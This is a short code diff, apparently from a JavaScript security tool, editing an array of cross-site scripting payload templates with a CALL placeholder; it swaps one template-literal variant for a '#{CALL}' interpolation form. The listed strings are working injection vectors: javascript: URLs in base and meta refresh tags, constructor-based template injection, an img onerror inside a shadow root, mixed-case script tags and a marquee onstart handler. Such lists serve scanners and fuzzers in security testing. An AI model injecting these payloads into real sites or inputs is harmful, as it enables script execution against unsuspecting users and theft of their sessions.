@@ -36,7 +36,7 @@ const FRAMES = [
   '<base href="javascript:CALL//">',
   '<meta http-equiv="refresh" content="0;url=javascript:CALL">',
   '{{constructor.constructor("CALL")()}}',
-  '$\{CALL}'.replace('\\', ''),
+  '#{CALL}',
   '<template shadowrootmode=open><img src=x onerror=CALL></template>',
   '<ScRiPt>CALL</sCrIpT>',
   '<marquee onstart="CALL">x</marquee>',
